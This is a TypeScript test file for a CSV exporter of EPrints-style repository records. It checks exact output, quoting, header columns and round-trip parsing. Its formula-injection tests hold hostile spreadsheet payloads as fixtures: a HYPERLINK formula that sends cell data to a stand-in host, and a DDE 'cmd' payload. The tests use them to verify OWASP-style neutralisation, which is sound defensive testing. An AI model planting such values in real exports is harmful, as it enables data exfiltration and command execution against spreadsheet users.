import { beforeAll, describe, expect, it } from "vitest";
import { parse } from "csv-parse/sync";
import { csvFormat, csvHeader, neutraliseFormula } from "../../src/formats/csv.js";
import { NAME_PARTS, exportedSubfields } from "../../src/formats/lexical.js";
import { publicFields } from "../../src/records/fields.js";
import { EPrintSchema, type EPrint } from "../../src/records/schema.js";
import type { FormatContext } from "../../src/formats/types.js";
import { EXAMPLE_IDS, LIST_EXAMPLE_IDS, exampleContext, exampleRecords, fixture } from "../support/examples.js";

let records: Map<number, EPrint>;
let exact: FormatContext;
let safe: FormatContext;
beforeAll(async () => {
  records = await exampleRecords();
  const ctx = await exampleContext();
  exact = { ...ctx, options: { ...ctx.options, csvFidelity: "exact" } };
  safe = { ...ctx, options: { ...ctx.options, csvFidelity: "safe" } };
});

const asList = (ctx: FormatContext, ...rs: EPrint[]) => {
  const l = csvFormat.list!;
  return l.head(ctx) + rs.map((r, i) => l.item(r, ctx, i)).join("") + l.tail(ctx, rs.length);
};

/** csv-parse in its strict defaults: a stray quote or a short row is an error. */
const readCsv = (text: string): string[][] => parse(text, { relax_quotes: false, relax_column_count: false });

/** Undo the safe-mode prefix where it can only have come from neutralising (test records hold no such leading quotes). */
const unneutralise = (s: string) => (/^'[=+\-@\t\n\uFF1D\uFF0B\uFF0D\uFF20]/.test(s) ? s.slice(1) : s);

/**
 * Rebuilds a record from parsed CSV rows, reading the column names only (not Vellum's code
 * paths): the round trip must give back every exported field.
 */
function rebuild(rows: string[][], header: string[], ctx: FormatContext): Record<string, unknown> {
  const cell = (j: number, col: string) => {
    const i = header.indexOf(col);
    if (i < 0) throw new Error(`no column ${col}`);
    const v = rows[j]![i]!;
    return ctx.options.csvFidelity === "safe" ? unneutralise(v) : v;
  };
  const read = (j: number, col: string, type: string): unknown => {
    if (type === "name") {
      const n = Object.fromEntries(NAME_PARTS.map((p) => [p, cell(j, `${col}.${p}`)]).filter(([, v]) => v !== ""));
      return Object.keys(n).length ? n : undefined;
    }
    const s = cell(j, col);
    if (s === "") return undefined;
    if (["int", "counter", "itemref"].includes(type)) return Number(s);
    if (type === "boolean") return s === "TRUE";
    return s;
  };
  const trim = <T>(xs: T[], empty: (x: T) => boolean) => {
    while (xs.length && empty(xs.at(-1)!)) xs.pop();
    return xs;
  };
  const out: Record<string, unknown> = {};
  for (const def of publicFields(ctx.options)) {
    if (!def.exported) continue;
    const rowsIdx = def.multiple ? rows.map((_, j) => j) : [0];
    const values = rowsIdx.map((j) => {
      if (def.type !== "compound") return read(j, def.name, def.type);
      const item = Object.fromEntries(
        exportedSubfields(def)
          .map((s) => [s.name, read(j, `${def.name}_${s.name}`, s.type)])
          .filter(([, v]) => v !== undefined),
      );
      return Object.keys(item).length ? item : undefined;
    });
    const kept = trim(values, (v) => v === undefined);
    if (kept.length) out[def.name] = def.multiple ? kept : kept[0];
  }
  return out;
}

/** The record as a public export should show it: exported fields and sub-fields only, CRs removed. */
function exportedView(record: EPrint, ctx: FormatContext): Record<string, unknown> {
  const r = record as Record<string, unknown>;
  const noCr = (v: unknown): unknown =>
    typeof v === "string" ? v.replace(/\r/g, "") : v && typeof v === "object" && !Array.isArray(v) ? Object.fromEntries(Object.entries(v).map(([k, x]) => [k, noCr(x)])) : v;
  const out: Record<string, unknown> = {};
  for (const def of publicFields(ctx.options)) {
    if (!def.exported || r[def.name] === undefined) continue;
    const pick = (item: unknown) =>
      def.type === "compound"
        ? Object.fromEntries(exportedSubfields(def).map((s) => [s.name, noCr((item as Record<string, unknown>)[s.name])]).filter(([, v]) => v !== undefined))
        : noCr(item);
    const v = def.multiple ? (r[def.name] as unknown[]).map(pick) : pick(r[def.name]);
    if (v !== "") out[def.name] = v; // a value of CRs only reads back as unset
  }
  return out;
}

describe("CSV export of the EPrints examples", () => {
  it.each(EXAMPLE_IDS)("record %i equals EPrints' single export byte for byte (no header)", (id) => {
    expect(csvFormat.serialize(records.get(id)!, exact)).toBe(fixture(`CSV/single/${id}.csv`));
  });

  it.each(LIST_EXAMPLE_IDS)("record %i as a one-record list equals EPrints' list export (header row)", (id) => {
    expect(asList(exact, records.get(id)!)).toBe(fixture(`CSV/list/${id}.csv`));
  });

  it.each(EXAMPLE_IDS)("record %i: safe mode changes nothing, since no example cell looks like a formula", (id) => {
    expect(csvFormat.serialize(records.get(id)!, safe)).toBe(fixture(`CSV/single/${id}.csv`));
  });

  it.each(LIST_EXAMPLE_IDS)("record %i reads back with csv-parse (strict) and every exported field survives", (id) => {
    const rows = readCsv(asList(exact, records.get(id)!));
    const header = rows.shift()!;
    expect(header).toEqual(csvHeader(exact));
    expect(rebuild(rows, header, exact)).toEqual(exportedView(records.get(id)!, exact));
  });

  it("the header has the 88 public 3.4.4+ columns, creators_id and other hidden fields left out", () => {
    const header = csvHeader(exact);
    expect(header).toHaveLength(88);
    expect(header.slice(0, 3)).toEqual(["eprintid", "rev_number", "eprint_status"]);
    expect(header.at(-1)).toBe("gscholar_datestamp");
    for (const hidden of ["creators_id", "editors_id", "contributors_id", "contact_email", "suggestions", "documents", "creators"]) {
      expect(header).not.toContain(hidden);
    }
  });

  it("with ORCIDs switched on, each person compound gets an _orcid column after its name", () => {
    const ctx = { ...exact, options: { ...exact.options, exportOrcid: true } };
    const header = csvHeader(ctx);
    expect(header).toHaveLength(91);
    const at = header.indexOf("creators_name.honourific");
    expect(header[at + 1]).toBe("creators_orcid");
    expect(header[header.indexOf("editors_name.honourific") + 1]).toBe("editors_orcid");
    expect(header[header.indexOf("contributors_name.honourific") + 1]).toBe("contributors_orcid");
  });

  it("a list of several records has one header row", () => {
    const text = asList(exact, records.get(101)!, records.get(102)!);
    expect(text).toBe(fixture("CSV/list/101.csv") + fixture("CSV/single/102.csv"));
  });
});

describe("CSV export of constructed records", () => {
  const base = {
    eprintid: 7,
    rev_number: 3,
    eprint_status: "archive",
    dir: "disk0/00/00/00/07",
    lastmod: "2024-04-02 09:15:33",
    type: "thesis",
  } as const;
  const make = (extra: Record<string, unknown>) => EPrintSchema.parse({ ...base, ...extra });

  /** One expected row, cells named by column: undefined or absent is a bare cell, a string is quoted as EPrints quotes. */
  const line = (cells: Record<string, string | undefined>) =>
    csvHeader(exact)
      .map((h) => (cells[h] === undefined ? "" : `"${cells[h]!.replace(/"/g, '""')}"`))
      .join(",") + "\r\n";
  /** Row 1 of a record without any multiple values: each empty text-like multiple field is "". */
  const emptyMultiples = Object.fromEntries(
    ["relation_type", "relation_uri", "contributors_type", "corp_creators", "subjects", "divisions", "copyright_holders"]
      .concat(["related_url_url", "related_url_type", "funders", "projects", "skill_areas"])
      .map((c) => [c, ""]),
  );

  it("a minimal record: unset single fields are bare, empty multiple fields are \"\", empty name fields four bare cells", () => {
    const r = make({});
    expect(csvFormat.serialize(r, exact)).toBe(
      line({
        ...emptyMultiples,
        eprintid: "7",
        rev_number: "3",
        eprint_status: "archive",
        dir: "disk0/00/00/00/07",
        lastmod: "2024-04-02 09:15:33",
        type: "thesis",
      }),
    );
  });

  it("a long creator list gives one row per creator, eprintid on every row, ids left out", () => {
    const creators = Array.from({ length: 30 }, (_, i) => ({
      name: { family: `Family${i}`, given: `Given${i}` },
      id: `person${i}@example.ac.uk`,
    }));
    const r = make({ creators, subjects: ["HV", "HN"], funders: ["Wellcome", "UKRI", "ESRC"] });
    const text = csvFormat.serialize(r, exact);
    expect(text).not.toContain("@example.ac.uk");
    const rows = text.split("\r\n");
    expect(rows.pop()).toBe("");
    expect(rows).toHaveLength(30);
    const person = (i: number) => ({
      "creators_name.family": `Family${i}`,
      "creators_name.given": `Given${i}`,
      "creators_name.lineage": "",
      "creators_name.honourific": "",
    });
    expect(rows[0] + "\r\n").toBe(
      line({ ...emptyMultiples, ...base, eprintid: "7", rev_number: "3", ...person(0), subjects: "HV", funders: "Wellcome" }),
    );
    expect(rows[1] + "\r\n").toBe(line({ eprintid: "7", ...person(1), subjects: "HN", funders: "UKRI" }));
    expect(rows[2] + "\r\n").toBe(line({ eprintid: "7", ...person(2), funders: "ESRC" }));
    expect(rows[29] + "\r\n").toBe(line({ eprintid: "7", ...person(29) }));
    expect(rebuild(readCsv(text), csvHeader(exact), exact)).toEqual(exportedView(r, exact));
  });

  it("name parts: lineage and honourific are written; a missing part of a present name is \"\"", () => {
    const r = make({
      creators: [{ name: { family: "King", given: "Martin Luther", lineage: "Jr.", honourific: "Dr" } }],
      editors: [{ name: { family: "Prince" } }],
      contributors: [
        { type: "http://www.loc.gov/loc.terms/relators/THS", name: { family: "Supervisor", given: "Sue" } },
        { name: { given: "Madonna" } },
      ],
    });
    const text = csvFormat.serialize(r, exact);
    const rows = text.split("\r\n");
    expect(rows[0] + "\r\n").toBe(
      line({
        ...emptyMultiples,
        ...base,
        eprintid: "7",
        rev_number: "3",
        "creators_name.family": "King",
        "creators_name.given": "Martin Luther",
        "creators_name.lineage": "Jr.",
        "creators_name.honourific": "Dr",
        contributors_type: "http://www.loc.gov/loc.terms/relators/THS",
        "contributors_name.family": "Supervisor",
        "contributors_name.given": "Sue",
        "contributors_name.lineage": "",
        "contributors_name.honourific": "",
        "editors_name.family": "Prince",
        "editors_name.given": "",
        "editors_name.lineage": "",
        "editors_name.honourific": "",
      }),
    );
    // A contributor without a type: that cell of its row is bare, the name parts are "".
    expect(rows[1] + "\r\n").toBe(
      line({
        eprintid: "7",
        "contributors_name.family": "",
        "contributors_name.given": "Madonna",
        "contributors_name.lineage": "",
        "contributors_name.honourific": "",
      }),
    );
    expect(rebuild(readCsv(text), csvHeader(exact), exact)).toEqual(exportedView(r, exact));
  });

  it("compounds: a missing sub-value is a bare cell; a single compound fills its own columns", () => {
    const r = make({
      related_url: [{ url: "https://example.org/a" }, { url: "https://example.org/b", type: "author" }],
      gscholar: { impact: 0, cluster: "0042" },
      pages: 0,
      refereed: false,
    });
    const rows = csvFormat.serialize(r, exact).split("\r\n");
    expect(rows[0] + "\r\n").toBe(
      line({
        ...emptyMultiples,
        ...base,
        eprintid: "7",
        rev_number: "3",
        related_url_url: "https://example.org/a",
        related_url_type: undefined,
        gscholar_impact: "0",
        gscholar_cluster: "0042",
        pages: "0",
        refereed: "FALSE",
      }),
    );
    expect(rows[1] + "\r\n").toBe(line({ eprintid: "7", related_url_url: "https://example.org/b", related_url_type: "author" }));
  });

  it("quotes are doubled, newlines stay inside the quotes, every CR is removed", () => {
    const r = make({
      title: 'He said "hi",\r\nthen left',
      abstract: "First paragraph.\n\nSecond, with a comma and a \"quote\".\r",
      keywords: "\r",
    });
    const text = csvFormat.serialize(r, exact);
    expect(text).toContain(',"He said ""hi"",\nthen left",');
    expect(text).toContain(',"First paragraph.\n\nSecond, with a comma and a ""quote"".",');
    // A value made only of CRs is still a defined value: quoted empty, as EPrints writes it.
    expect(text.split(",")[csvHeader(exact).indexOf("keywords") + 1]).toBe('""');
    expect(text.match(/\r/g)).toHaveLength(1);
    expect(text.endsWith("\r\n")).toBe(true);
    const rows = readCsv(text);
    expect(rows).toHaveLength(1);
    expect(rebuild(rows, csvHeader(exact), exact)).toEqual(exportedView(r, exact));
  });

  describe("formula-looking values", () => {
    const formulas = {
      title: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      keywords: "+44 1227 764000",
      note: "@SUM(A1:A9)",
      publisher: "-2+3+cmd|' /C calc'!A0",
      series: "\tTabbed",
      abstract: "\r=1+2",
      referencetext: "\nstarts with a newline",
      edition: "\uFF1D1+1",
      volume: "-5",
      number: "+3",
      article_number: "-0.25",
      place_of_pub: "Canterbury - Kent",
    };
    /** Column → expected cell in safe mode. */
    const safeCells: Record<keyof typeof formulas, string> = {
      title: `'=HYPERLINK("http://evil.example/?"&A1,"Click")`,
      keywords: "'+44 1227 764000",
      note: "'@SUM(A1:A9)",
      publisher: "'-2+3+cmd|' /C calc'!A0",
      series: "'\tTabbed",
      abstract: "'=1+2", // CR removed first, then the = is caught
      referencetext: "'\nstarts with a newline",
      edition: "'\uFF1D1+1",
      volume: "-5", // plain numbers are left alone
      number: "+3",
      article_number: "-0.25",
      place_of_pub: "Canterbury - Kent", // only the first character counts
    };
    const values = (text: string) => {
      const rows = readCsv(text);
      const header = csvHeader(exact);
      return Object.fromEntries(Object.keys(formulas).map((k) => [k, rows[0]![header.indexOf(k)]]));
    };
    const record = () => make(formulas);

    it("exact mode writes EPrints' bytes: values verbatim, only CRs removed", () => {
      const r = record();
      const text = csvFormat.serialize(r, exact);
      expect(text).toContain(`,"=HYPERLINK(""http://evil.example/?""&A1,""Click"")",`);
      expect(values(text)).toEqual({ ...formulas, abstract: "=1+2" });
    });

    it("safe mode prefixes a single quote inside the quotes, as OWASP advises, and leaves plain numbers alone", () => {
      const r = record();
      const text = csvFormat.serialize(r, safe);
      expect(text).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",`);
      expect(values(text)).toEqual(safeCells);
      expect(rebuild(readCsv(text), csvHeader(safe), safe)).toEqual(exportedView(r, safe));
    });

    it("safe mode neutralises the list form's cells too, not the header", () => {
      const text = asList(safe, record());
      const rows = readCsv(text);
      expect(rows[0]).toEqual(csvHeader(safe));
      expect(rows[1]![csvHeader(safe).indexOf("note")]).toBe("'@SUM(A1:A9)");
    });

    it("neutraliseFormula: the OWASP start characters, and only whole signed numbers are exempt", () => {
      for (const s of ["=1", "+1+1", "-1+1", "@x", "\tx", "\rx", "\nx", "-", "+", "-1e5", "--1", "-1.2.3", "\uFF0B1", "\uFF20x", "\uFF0D1"]) {
        expect(neutraliseFormula(s)).toBe(`'${s}`);
      }
      for (const s of ["-1", "+1", "-0.5", "-.5", "-5.", "12", "", "a=b", " =1", "'=1", "2024-01-01"]) {
        expect(neutraliseFormula(s)).toBe(s);
      }
    });
  });
});
